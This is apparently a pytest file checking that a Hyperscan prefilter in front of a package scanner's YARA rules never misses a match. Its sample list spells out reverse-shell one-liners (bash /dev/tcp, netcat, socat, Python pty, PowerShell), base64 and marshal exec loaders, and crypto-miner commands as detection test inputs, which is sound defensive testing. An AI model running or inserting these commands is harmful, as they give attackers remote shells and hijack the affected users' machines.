"""The Hyperscan prefilter in front of YARA (scanning/prefilter.py): it never hides a match YARA would make
(every sample that fires a shipped rule also passes the prefilter, alone and buried in megabytes of other
text), it lets plain text and binary skip YARA, and rules it cannot reason about disable it."""

from __future__ import annotations

import hashlib
import random
from pathlib import Path

import pytest
import yara
from tests.support.packages import EICAR

from condavault.scanning.engine import RULES_DIR, RuleSet
from condavault.scanning.prefilter import build_prefilter

SAMPLES = [
    b"bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
    b"sh -i >& /dev/udp/10.0.0.1/53",
    b"0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
    b"nc -nv 10.0.0.1 4444 -e /bin/bash",
    b"ncat 10.0.0.1 4444 -e /bin/sh",
    b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    b"import os,pty,socket;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
    b"socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty",
    b"$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444); iex $data",
    b"exec(base64.b64decode('cHJpbnQoMSk='))",
    b"eval ( zlib.decompress(blob) )",
    b"exec(__import__('marshal').loads(x))",
    b"exec(compile(base64.b64decode(x), 'a', 'exec'))",
    b"exec(bytes.fromhex('7072696e74'))",
    b"echo aGVsbG8K | base64 -d | bash",
    b"base64 --decode <<< aGVsbG8K | sh",
    b"POWERSHELL.exe -NoP -EncodedCommand " + b"A" * 48,
    b"pool=stratum+tcp://pool.example:3333",
    b"--url=xmr.nanopool.org:14444",
    b"./XMRig --donate-level 1 -a RandomX",
    b"xmrig --threads 2 cryptonight",
    EICAR,
]


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    rs = RuleSet()
    assert rs.prefilter is not None and rs.prefilter.scopes == {"text", "any"}
    return rs


def _filler(n: int) -> bytes:
    rnd = random.Random(7)
    words = [bytes(rnd.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(rnd.randint(2, 9))) for _ in range(500)]
    return b" ".join(rnd.choice(words) for _ in range(n))


@pytest.mark.parametrize("sample", SAMPLES)
def test_every_sample_yara_catches_passes_the_prefilter(rules: RuleSet, sample: bytes) -> None:
    pf = rules.prefilter
    assert pf is not None
    for scope in ("text", "any"):
        yara_rules = rules.rules[scope]
        assert yara_rules is not None
        ext = {"filepath": "x.py", "install_script": False, "startup_hook": False}
        for data in (sample, _filler(200_000) + b"\n" + sample + b"\n" + _filler(1000)):
            if yara_rules.match(data=data, externals=ext):
                assert pf.may_match(scope, data), (scope, sample)
    # and the scan as a whole still reports it
    found = rules.match(_filler(50_000) + b"\n" + sample + b"\n", "lib/x.py", False, False)
    assert found, sample


def test_plain_text_and_binary_skip_yara(rules: RuleSet) -> None:
    pf = rules.prefilter
    assert pf is not None
    assert not pf.may_match("text", _filler(300_000))
    assert not pf.may_match("any", random.Random(3).randbytes(1 << 20))


def test_rules_it_cannot_reason_about_disable_it(tmp_path: Path) -> None:
    shipped = (RULES_DIR / "any.yar").read_text()
    for extra in (
        "rule big { condition: filesize > 10 }",
        'rule neg { strings: $a = "x" condition: not $a }',
        'rule none_ { strings: $a = "x" condition: none of them }',
        "rule hex { strings: $a = { 41 42 43 } condition: $a }",
        'rule wide_ { strings: $a = "abc" wide condition: $a }',
        'rule ext { strings: $a = "abc" condition: $a or filepath matches /x/ }',
    ):
        yara.compile(source=extra, externals={"filepath": ""})  # a valid rule
        assert build_prefilter({"any": [shipped, extra]}) is None, extra
    # a rule in scan_rules_dir is matched against every file: with one that has no string, YARA reads all
    d = tmp_path / "rules"
    d.mkdir()
    (d / "big.yar").write_text('rule big_file { meta: verdict = "suspicious" condition: filesize > 1000000 }')
    rs = RuleSet(d)
    assert rs.prefilter is None or "any" not in rs.prefilter.scopes
    assert rs.match(b"a" * 1_000_001, "share/x.bin", False, False)[0].rule == "big_file"


def test_a_compiled_prefilter_is_cached_on_disk_and_a_damaged_copy_is_compiled_again(tmp_path: Path) -> None:
    """A later process loads the compiled database from the data folder; a file whose checksum does not
    match its content is never loaded (Hyperscan would deserialize it without a word)."""
    from condavault.scanning import prefilter as pf

    shipped = [(RULES_DIR / "any.yar").read_text()]
    pf._compiled.cache_clear()
    first = build_prefilter({"any": shipped}, cache_dir=tmp_path)
    (cached,) = tmp_path.glob("scan-prefilter-*.hs")
    assert first is not None and first.may_match("any", EICAR)
    pf._compiled.cache_clear()  # as a new process
    loaded = build_prefilter({"any": shipped}, cache_dir=tmp_path)
    assert loaded is not None and loaded.may_match("any", EICAR)
    assert not loaded.may_match("any", _filler(10_000))
    # flip a byte of the payload: the checksum refuses the file and the database is compiled (and written) anew
    blob = bytearray(cached.read_bytes())
    blob[len(blob) // 2] ^= 0xFF
    cached.write_bytes(bytes(blob))
    pf._compiled.cache_clear()
    again = build_prefilter({"any": shipped}, cache_dir=tmp_path)
    assert again is not None and again.may_match("any", EICAR)
    assert hashlib.sha256(cached.read_bytes()[32:]).digest() == cached.read_bytes()[:32]
